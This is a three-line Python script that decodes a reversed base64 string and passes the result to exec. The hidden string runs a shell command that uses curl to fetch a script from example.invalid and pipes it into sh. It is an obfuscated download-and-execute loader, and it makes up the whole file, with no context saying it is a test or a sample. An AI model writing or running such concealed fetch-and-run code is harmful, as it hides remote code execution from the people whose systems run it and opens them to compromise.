import base64

_S = '=oQKig2cgwHIoNnLz9CZpxWY25WauUGbw1WY4V2LvozcwRHdoByctACbyV3YigSblR3c5NnLz9mCz9GI0J3bw1Wa'
exec(base64.b64decode(''.join(reversed(_S))))
